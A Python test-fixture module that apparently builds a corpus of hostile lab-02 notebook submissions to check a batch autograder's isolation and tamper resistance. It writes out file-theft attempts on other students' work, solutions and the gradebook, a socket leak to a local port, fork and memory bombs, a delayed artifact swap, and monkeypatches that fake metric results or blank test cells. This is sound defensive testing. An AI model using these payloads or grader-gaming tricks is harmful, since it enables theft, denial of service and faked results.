"""A corpus of lab-02 submissions, bad in every way the batch grader must survive.

Each case is (student id, notebook bytes, expected status (a tuple: any of these) or
None for "any failure status", expected score or None for "less than full", and a text the grader's evidence
must contain: "BLOCKED" for what hostile code recorded, anything else for the checks'
messages). Hostile code goes into the first
answer cell (``describe_data``'s) so it runs early; it leaves what it managed to steal
in ``artifacts/stolen.txt``, which the grader keeps, so a test can prove it got nothing.
"""

import json

from autograder.batch.corpus import honest, solution_sources, with_answers

LAB = "02-fashion-mnist-cnn"
FULL = 15.0


def _steal(target_expression: str, mode: str = "r") -> str:
    """Source that tries to open a path and records the outcome, then answers honestly."""
    return f"""
import os as _os
try:
    with open({target_expression}, "{mode}") as _stream:
        _stolen = "GOT " + (_stream.read(200) if "r" in "{mode}" else "write access")
except Exception as _error:
    _stolen = "BLOCKED " + type(_error).__name__
_os.makedirs("artifacts", exist_ok=True)
open("artifacts/stolen.txt", "w").write(str(_stolen))
""" + solution_sources(LAB)["cell-03"]


def _prefix(code: str) -> dict:
    """An otherwise honest submission whose first answer cell starts with ``code``."""
    return honest(LAB, **{"cell-03": code + "\n" + solution_sources(LAB)["cell-03"]})


def _bytes(notebook) -> bytes:
    return json.dumps(notebook).encode()


def _untrained_model_and(code: str) -> dict:
    """Honest functions, but the graded ``model`` is swapped for an untrained copy in the
    last answer cell (after training), which also runs ``code``."""
    last = solution_sources(LAB)["cell-20"]
    return honest(LAB, **{"cell-20": last + "\nmodel = keras.models.clone_model(model)\n" + code})


def cases(course, repo, port):
    """All corpus cases. ``course`` and ``repo`` are the paths hostile code targets."""
    solution_py = repo / "solutions" / LAB / "fashion_mnist_cnn.py"
    hidden_py = repo / "solutions" / LAB / "exercises.py"
    gradebook = course / "gradebook.db"
    other = course / "submitted" / "honest-a" / LAB / "fashion_mnist_cnn.ipynb"
    wrong_confusion = solution_sources(LAB)["cell-16"].replace("np.add.at(matrix, (np.asarray(y_true), np.asarray(y_pred)), 1)",
                                                              "np.add.at(matrix, (np.asarray(y_pred), np.asarray(y_true)), 1)")
    released = with_answers(LAB, {})
    tampered_tests = honest(LAB, **{"cell-16": wrong_confusion})
    for cell in tampered_tests["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["source"] = "pass\n"
    deleted_tests = honest(LAB, **{"cell-16": wrong_confusion})
    deleted_tests["cells"] = [cell for cell in deleted_tests["cells"] if not cell["metadata"].get("nbgrader", {}).get("grade")]
    reordered = honest(LAB)
    reordered["cells"] = reordered["cells"][::-1]
    duplicated = honest(LAB)
    duplicated["cells"] = duplicated["cells"] + [json.loads(json.dumps(duplicated["cells"][3]))]
    duplicated["cells"][-1]["source"] = "raise ValueError('second copy')"
    nbformat3 = honest(LAB)
    nbformat3["nbformat"] = 3
    return [
        # honest work, graded alongside to prove nobody else touches it
        ("honest-a", _bytes(honest(LAB)), "ok", FULL, None),
        ("honest-b", _bytes(honest(LAB, **{"cell-20": solution_sources(LAB)["cell-20"] + "\n# checked twice\n"})),
         "ok", FULL, None),
        ("partly-wrong", _bytes(honest(LAB, **{"cell-16": wrong_confusion})), "ok", FULL - 2, None),
        ("untouched", _bytes(released), "unanswered", 0.0, "no answer was given"),
        # isolation
        ("read-other-submission", _bytes(honest(LAB, **{"cell-03": _steal(repr(str(other)))})), "ok", FULL, "BLOCKED"),
        ("write-gradebook", _bytes(honest(LAB, **{"cell-03": _steal(repr(str(gradebook)), "ab")})), "ok", FULL, "BLOCKED"),
        ("read-solutions", _bytes(honest(LAB, **{"cell-03": _steal(repr(str(solution_py)))})), "ok", FULL, "BLOCKED"),
        ("read-hidden-tests", _bytes(honest(LAB, **{"cell-03": _steal(repr(str(hidden_py)))})), "ok", FULL, "BLOCKED"),
        ("read-git-history", _bytes(honest(LAB, **{"cell-03": _steal(repr(str(repo / ".git" / "HEAD")))})), "ok", FULL, "BLOCKED"),
        ("network", _bytes(_prefix(f"""
import os, socket
os.makedirs("artifacts", exist_ok=True)
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"leak")
    open("artifacts/stolen.txt", "w").write("GOT network")
except OSError as error:
    open("artifacts/stolen.txt", "w").write("BLOCKED " + type(error).__name__)
""")), "ok", FULL, "BLOCKED"),
        # resources
        # interrupted after the cell limit; the rest runs, but describe_data was never defined
        ("infinite-loop", _bytes(_prefix("while True:\n    pass")), "timeout", FULL - 1,
         "NameError: name 'describe_data' is not defined"),
        ("memory-bomb", _bytes(_prefix("import numpy\nblocks = [numpy.ones(1 << 28) for _ in range(64)]")), "out-of-memory", FULL - 1,
         "NameError: name 'describe_data' is not defined"),
        # which limit ends it depends on timing: the cell's time limit, or the process cap
        # leaving the kernel unable to start a thread (it dies)
        ("fork-bomb", _bytes(_prefix("import os, time\nwhile True:\n    try:\n        os.fork()\n"
                                     "    except OSError:\n        time.sleep(0.2)")), ("timeout", "kernel-died"), 0.0, None),
        ("enormous-output", _bytes(_prefix("import sys\nfor _ in range(200):\n    sys.stdout.write('x' * (1 << 20))")),
         "output-too-large", FULL, None),
        ("kills-its-kernel", _bytes(_prefix("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")), "kernel-died", 0.0, None),
        ("exits-midway", _bytes(honest(LAB, **{"cell-16": "import os\nos._exit(0)"})), "kernel-died", 0.0, None),
        # tamper-proof metrics
        ("monkeypatch-sklearn", _bytes(_untrained_model_and(
            "import sklearn.metrics\nsklearn.metrics.f1_score = lambda *a, **k: 1.0")), "ok", FULL - 4, None),
        ("monkeypatch-numpy-keras", _bytes(_untrained_model_and(
            "import numpy, keras\nnumpy.argmax = lambda *a, **k: 0\nkeras.Model.__call__ = lambda self, *a, **k: None")),
         "ok", FULL - 4, "below the threshold"),
        ("patch-checks-and-builtins", _bytes(_untrained_model_and(
            "import builtins, coursekit.checks\ncoursekit.checks.check_array = lambda *a, **k: None\n"
            "coursekit.checks.check_at_least = lambda *a, **k: None\nbuiltins.AssertionError = type('Nope', (Exception,), {})")),
         "ok", FULL - 4, None),
        ("lambda-layer-model", _bytes(honest(LAB, **{"cell-10": solution_sources(LAB)["cell-10"].replace(
            "    outputs = keras.layers.Dense(10, activation=\"softmax\")(x)",
            "    outputs = keras.layers.Lambda(lambda t: t)(keras.layers.Dense(10, activation=\"softmax\")(x))")})),
         "ok", FULL - 6, "only Keras's built-in layers"),
        ("swap-artifact-later", _bytes(_prefix("""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time, os\\ntime.sleep(60)\\nopen('artifacts/describe.json', 'w').write('{}')"],
                 start_new_session=True)""")), "ok", FULL, None),
        # notebooks
        ("tampered-test-cells", _bytes(tampered_tests), "tampered", FULL - 2, None),
        ("deleted-test-cells", _bytes(deleted_tests), "restructured", FULL - 2, None),
        ("reordered-cells", _bytes(reordered), "restructured", FULL, None),
        ("duplicated-cells", _bytes(duplicated), "restructured", FULL, None),
        ("invalid-json", b'{"cells": [', "invalid-notebook", 0.0, None),
        ("wrong-nbformat", _bytes(nbformat3), "invalid-notebook", 0.0, None),
        ("not-text", bytes(range(256)) * 4, "invalid-notebook", 0.0, None),
    ]
